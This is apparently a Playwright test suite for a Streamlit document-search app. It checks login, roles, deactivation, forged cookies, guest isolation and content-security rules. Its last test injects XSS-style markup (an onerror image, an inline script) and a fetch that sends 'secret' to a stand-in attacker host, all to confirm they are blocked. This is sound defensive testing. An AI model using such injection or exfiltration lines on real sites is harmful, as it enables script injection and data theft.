"""Logging in at a real provider, guests, and what nobody gets who is not let in."""

import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright")
sys.path.insert(0, str(Path(__file__).parent))

from playwright.sync_api import Browser, BrowserContext, Page, expect
from ports import free_port
from streamlit.auth_util import set_cookie_with_chunks
from streamlit.web.server.starlette.starlette_app_utils import create_signed_value
from web_browser import CHROMIUM, NO_CHROMIUM
from web_login import (
    PATIENCE_MS,
    SECRET,
    Provider,
    Visitor,
    footnote_web,
    log_in,
    login_settings,
    new_context,
    provider,
    settle,
)
from web_proxy import proxy
from web_real import ingest

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason=NO_CHROMIUM),
]

expect.set_options(timeout=PATIENCE_MS)

QUESTION = "What is the notice period for senior staff?"
WORDS = "The notice period for senior staff is 17 weeks."
ROLES = {
    "ROLES__ADMINS": '["group:chiefs"]',
    "ROLES__REVIEWERS": '["group:quality"]',
}
PEOPLE: dict[str, dict[str, Any]] = {
    "ann": {"groups": ["hr"]},
    "ben": {"groups": []},
    "cleo": {"groups": ["hr"]},
    "dan": {"groups": ["hr"]},
    "rita": {"groups": ["quality"]},
    "boss": {"groups": ["chiefs"]},
    "chief": {"groups": ["chiefs"]},
    "eve": {"email": "eve@evil.example", "groups": ["chiefs", "hr"]},
    "nil": {"email": None},
    "una": {"email_verified": False, "groups": ["hr"]},
}


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One document for everyone, one for the group `hr`."""
    folder = tmp_path_factory.mktemp("login")
    for name, access, text in (
        ("open", "everyone", "# Canteen\n\nThe canteen opens at eleven o'clock.\n"),
        ("closed", "group:hr", f"# Contracts\n\n{WORDS}\n"),
    ):
        (folder / name).mkdir()
        (folder / name / f"{name}.md").write_text(text)
        ingest(folder / name, folder / "data", "--access", access)
    return folder / "data"


@pytest.fixture(scope="module")
def company() -> Iterator[Provider]:
    with provider() as one:
        for sub, changed in PEOPLE.items():
            usual = {"email": f"{sub}@example.org", "name": sub.title()}
            claims = {
                key: value for key, value in {**usual, **changed}.items() if value is not None
            }
            one.add(sub, **claims)
        yield one


@pytest.fixture(scope="module")
def address(data_dir: Path, company: Provider) -> Iterator[str]:
    settings = {**login_settings(company), **ROLES, "OIDC__ALLOWED_DOMAINS": '["example.org"]'}
    with footnote_web(data_dir, settings) as address:
        yield address


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    visitor = Visitor(browser)
    yield visitor.context
    visitor.context.close()
    assert visitor.strays == []


def entered(context: BrowserContext, address: str, sub: str, path: str = "/") -> Page:
    page = context.new_page()
    page.goto(address + path)
    log_in(page, sub)
    expect(page.locator(".st-key-identity")).to_contain_text(sub.title())
    settle(page)
    return page


def ask(page: Page, question: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(question)
    box.press("Enter")
    expect(page.locator(".answer").first).to_be_visible(timeout=60_000)
    settle(page)


def people(data_dir: Path, *words: str) -> str:
    done = subprocess.run(
        [sys.executable, "-c", "from app.cli import main; main()", "people", *words],
        env={
            **os.environ,
            "FOOTNOTE_DATA_DIR": str(data_dir),
            "PYTHONPATH": os.pathsep.join(sys.path),
        },
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return done.stdout


def identity_cookies(address: str, secret: str = SECRET, **changed: Any) -> list[Any]:
    """The cookies of a login as this server would have given them."""
    now = int(time.time())
    claims = {"email": "ann@example.org", "name": "Ann", "iat": now, "exp": now + 600}
    usual = {**claims, "groups": ["hr"], "origin": address, "is_logged_in": True}
    cookies: list[Any] = []
    set_cookie_with_chunks(
        lambda name, value: cookies.append(
            {
                "name": name,
                "value": create_signed_value(secret, name, value).decode(),
                "url": address,
            }
        ),
        lambda name, value: create_signed_value(secret, name, value),
        "_streamlit_user",
        {**usual, **changed},
        cookie_attr_size=100,
    )
    return cookies


def expect_login_page(page: Page, sentence: str = "") -> None:
    expect(page.locator(".st-key-login")).to_be_visible(timeout=PATIENCE_MS)
    if sentence:
        expect(page.locator(".fn-login-note")).to_contain_text(sentence)
    settle(page)
    expect(page.get_by_test_id("stChatInput")).to_have_count(0)
    expect(page.locator(".st-key-identity")).to_have_count(0)


def links(page: Page) -> list[str]:
    expect(page.locator(".st-key-pages a").first).to_be_visible()
    return page.locator(".st-key-pages a").all_inner_texts()


def test_groups_from_the_login_decide_what_a_person_reads(
    browser: Browser, address: str, context: BrowserContext
) -> None:
    ann = entered(context, address, "ann")
    ask(ann, QUESTION)
    expect(ann.locator(".answer").first).to_contain_text("17 weeks")
    other = new_context(browser)
    ben = entered(other, address, "ben")
    ask(ben, QUESTION)
    assert "17 weeks" not in ben.content()
    other.close()


@pytest.mark.parametrize(("sub", "more"), [("ben", 0), ("rita", 2), ("boss", 4)])
def test_each_role_has_its_pages(
    address: str, context: BrowserContext, sub: str, more: int
) -> None:
    page = entered(context, address, sub)
    names = [re.sub(r"^\w+\n", "", name).strip() for name in links(page)]
    assert len(names) == 2 + more


@pytest.mark.parametrize("path", ["documents", "people", "review", "quality"])
def test_a_reader_who_types_an_address_is_told_whom_it_is_for(
    address: str, context: BrowserContext, path: str
) -> None:
    page = entered(context, address, "ben")
    page.goto(f"{address}/{path}")
    expect(page.get_by_role("alert")).to_contain_text("for people with the role")
    settle(page)
    assert "@example.org" not in page.get_by_test_id("stMain").inner_text()


def test_a_reviewer_is_no_admin(address: str, context: BrowserContext) -> None:
    page = entered(context, address, "rita")
    page.goto(f"{address}/people")
    expect(page.get_by_role("alert")).to_contain_text("the role 'admin'")


def test_the_page_that_was_wanted_comes_after_the_login(
    address: str, context: BrowserContext
) -> None:
    page = entered(context, address, "boss", "/people?from=mail")
    expect(page).to_have_url(f"{address}/people?from=mail")
    expect(page.get_by_role("heading", name="People")).to_be_visible()


def test_logging_out_ends_the_login_in_every_tab(address: str, context: BrowserContext) -> None:
    page = entered(context, address, "ann")
    other_tab = context.new_page()
    other_tab.goto(address)
    expect(other_tab.locator(".st-key-identity")).to_contain_text("Ann")
    settle(other_tab)
    stolen = context.cookies()
    page.get_by_role("button", name="Log out").click()
    page.get_by_role("button", name="End session").click()
    expect_login_page(page, "You are logged out.")
    other_tab.get_by_role("link", name="Your flags").click()
    expect_login_page(other_tab)
    context.add_cookies(stolen)
    other_tab.goto(address)
    expect_login_page(other_tab, "You are logged out.")


def test_whoever_is_deactivated_gets_nothing_with_the_next_click(
    address: str, context: BrowserContext, data_dir: Path
) -> None:
    page = entered(context, address, "cleo")
    ask(page, QUESTION)
    expect(page.locator(".answer").first).to_contain_text("17 weeks")
    try:
        people(data_dir, "deactivate", "cleo@example.org")
        page.get_by_role("link", name="Your flags").click()
        expect_login_page(page, "cleo@example.org may not use Footnote any more")
        assert "17 weeks" not in page.content()
        page.goto(address)
        expect_login_page(page, "may not use Footnote any more")
    finally:
        people(data_dir, "activate", "cleo@example.org")
    page.goto(address)
    expect(page.locator(".st-key-identity")).to_contain_text("Cleo")


def test_a_button_of_whoever_is_deactivated_does_nothing(
    browser: Browser, address: str, context: BrowserContext, data_dir: Path
) -> None:
    one = new_context(browser)
    entered(one, address, "dan")
    one.close()
    page = entered(context, address, "chief", "/people")
    row = page.locator('[class*="st-key-person_"]', has_text="dan@example.org")
    row.get_by_role("button", name="Deactivate").click()
    sure = page.get_by_role("button", name="Yes, deactivate")
    expect(sure).to_be_visible()
    people(data_dir, "deactivate", "chief@example.org")
    sure.click()
    expect_login_page(page, "chief@example.org may not use Footnote any more")
    (line,) = (line for line in people(data_dir, "list").splitlines() if "dan@" in line)
    assert " active " in line


def test_an_admin_deactivates_and_activates_with_a_question_in_between(
    browser: Browser, address: str, context: BrowserContext
) -> None:
    other = new_context(browser)
    rita = entered(other, address, "rita")
    page = entered(context, address, "boss", "/people")
    own = page.locator('[class*="st-key-person_"]', has_text="boss@example.org")
    expect(own).to_contain_text("you")
    expect(own.get_by_role("button")).to_have_count(0)
    row = page.locator('[class*="st-key-person_"]', has_text="rita@example.org")
    expect(row).to_contain_text("quality")
    row.get_by_role("button", name="Deactivate").click()
    page.get_by_role("button", name="Yes, deactivate").click()
    expect(page.get_by_role("status").first).to_contain_text("Rita is deactivated.")
    expect(row).to_contain_text("Deactivated")
    rita.get_by_role("link", name="Review").click()
    expect_login_page(rita, "may not use Footnote any more")
    row.get_by_role("button", name="Activate").click()
    expect(page.get_by_role("status").first).to_contain_text("Rita may log in again.")
    rita.goto(address)
    expect(rita.locator(".st-key-identity")).to_contain_text("Rita")
    other.close()


def test_a_login_that_expires_while_the_page_is_open_gets_nothing_with_the_next_click(
    address: str, browser: Browser
) -> None:
    for seconds in (10, 30, 90):  # a slow machine needs longer to open the page
        context = new_context(browser)
        expires = time.time() + seconds
        context.add_cookies(identity_cookies(address, exp=int(expires)))
        page = context.new_page()
        page.goto(address)
        expect(page.locator(".st-key-identity, .st-key-login").first).to_be_visible()
        settle(page)
        if page.locator(".st-key-identity").count() and time.time() < expires:
            break
        context.close()
    expect(page.locator(".st-key-identity")).to_contain_text("Ann")
    time.sleep(max(0.0, expires - time.time()) + 1)
    page.get_by_role("link", name="Your flags").click()
    expect_login_page(page, "Your login has ended.")
    log_in(page, "ann")
    expect(page.locator(".st-key-identity")).to_contain_text("Ann")
    context.close()


@pytest.mark.parametrize(
    ("sub", "sentence"),
    [
        ("eve", "Accounts like eve@evil.example cannot be used here."),
        ("nil", "Your account has no email address"),
        ("una", "The email address una@example.org is not confirmed yet."),
    ],
)
def test_accounts_that_may_not_come_in_are_told_why(
    address: str, context: BrowserContext, sub: str, sentence: str
) -> None:
    page = context.new_page()
    page.goto(address)
    log_in(page, sub)
    expect_login_page(page, sentence)
    expect(page.get_by_role("button", name="Use another account")).to_be_visible()


def test_whoever_says_no_at_the_provider_is_told_that_the_login_did_not_work(
    address: str, context: BrowserContext
) -> None:
    page = context.new_page()
    page.goto(address)
    page.get_by_role("button", name="Log in with Brightwater").click()
    page.get_by_role("button", name="Deny").click()
    expect_login_page(page, "The login did not work.")


@pytest.mark.parametrize(
    "changed",
    [{"secret": "another secret that is long enough to sign"}, {"origin": "https://other.example"}],
)
def test_a_forged_cookie_lets_nobody_in(
    address: str, context: BrowserContext, changed: dict[str, str]
) -> None:
    page = context.new_page()
    context.add_cookies(identity_cookies(address))
    page.goto(address)
    expect(page.locator(".st-key-identity")).to_contain_text("Ann")
    context.clear_cookies()
    context.add_cookies(identity_cookies(address, **changed))
    page.goto(address)
    expect_login_page(page)


def test_a_provider_that_does_not_answer_is_named_as_the_reason(
    data_dir: Path, context: BrowserContext
) -> None:
    away = Provider(f"http://localhost:{free_port()}")
    with footnote_web(data_dir, login_settings(away)) as address:
        page = context.new_page()
        page.goto(address)
        page.get_by_role("button", name="Log in with Brightwater").click()
        expect_login_page(page, "The login service does not answer.")


def test_two_guests_do_not_see_each_others_questions(
    browser: Browser, data_dir: Path, context: BrowserContext
) -> None:
    with footnote_web(data_dir, {}, host="0.0.0.0") as address:
        first = context.new_page()
        first.goto(address)
        expect(first.locator(".st-key-identity")).to_contain_text("Guest")
        ask(first, "When does the canteen open?")
        expect(first.locator(".answer").first).to_contain_text("eleven")
        link = first.url
        other = new_context(browser)
        second = other.new_page()
        second.goto(address)
        expect(second.locator(".st-key-identity")).to_contain_text("Guest")
        settle(second)
        assert "When does the canteen open?" not in second.content()
        second.goto(link)
        settle(second)
        expect(second.locator(".answer")).to_have_count(0)
        second.goto(f"{address}/documents")
        expect(second.get_by_role("alert")).to_contain_text("the role 'admin'")
        first.goto(address)
        expect(first.get_by_text("When does the canteen open?").first).to_be_visible()
        cookie = next(one for one in context.cookies() if one["name"] == "footnote_visitor")
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
        other.close()


def test_the_person_at_this_machine_needs_no_login_and_sees_every_page(
    data_dir: Path, context: BrowserContext
) -> None:
    with footnote_web(data_dir, {}) as address:
        page = context.new_page()
        page.goto(address)
        expect(page.locator(".st-key-identity")).to_contain_text("You, on this computer")
        assert len(links(page)) == 6
        assert [one["name"] for one in context.cookies() if "footnote" in one["name"]] == []
        elsewhere = urllib.request.Request(f"{address}/", headers={"Host": "evil.example"})
        with pytest.raises(urllib.error.HTTPError) as told:
            urllib.request.urlopen(elsewhere, timeout=20)
        assert told.value.code == 403
        told.value.close()


def test_login_questions_and_health_work_behind_a_proxy_below_a_path(
    data_dir: Path, company: Provider, context: BrowserContext
) -> None:
    port = free_port()
    redirect = f"http://127.0.0.1:{port}/footnote/oauth2callback"
    settings = {
        **login_settings(company),
        "OIDC__REDIRECT_URL": redirect,
        "WEB__BASE_PATH": "footnote",
    }
    with (
        footnote_web(data_dir, settings, base="/footnote") as server,
        proxy(port, "/footnote", server) as address,
    ):
        with urllib.request.urlopen(f"{address}/healthz", timeout=20) as answer:
            assert answer.read() == b"ok"
        page = entered(context, address, "ann", "/flags?from=mail")
        expect(page).to_have_url(f"{address}/flags?from=mail")
        page.goto(f"{address}/")
        ask(page, QUESTION)
        expect(page.locator(".answer").first).to_contain_text("17 weeks")
        page.get_by_role("button", name="Log out").click()
        page.get_by_role("button", name="End session").click()
        expect_login_page(page, "You are logged out.")


def test_what_is_smuggled_into_a_page_does_not_run_and_loads_nothing(
    address: str, context: BrowserContext
) -> None:
    page = context.new_page()
    page.goto(address)
    expect_login_page(page)
    blocked = page.evaluate(_SMUGGLED)
    assert blocked == ["connect-src", "img-src", "script-src-attr", "script-src-elem"]
    assert page.evaluate("window.smuggled === undefined")


_SMUGGLED = """
async () => {
    const blocked = new Set();
    document.addEventListener("securitypolicyviolation", (event) => blocked.add(event.effectiveDirective));
    const box = document.createElement("div");
    box.innerHTML = '<img src="x" onerror="window.smuggled = 1"><img src="https://evil.example/x.png">';
    const script = document.createElement("script");
    script.textContent = "window.smuggled = 2";
    box.append(script);
    document.body.append(box);
    fetch("https://evil.example/?q=secret").catch(() => {});
    for (let tries = 0; tries < 300 && blocked.size < 4; tries += 1)
        await new Promise((go) => setTimeout(go, 100));
    return [...blocked].sort();
}
"""
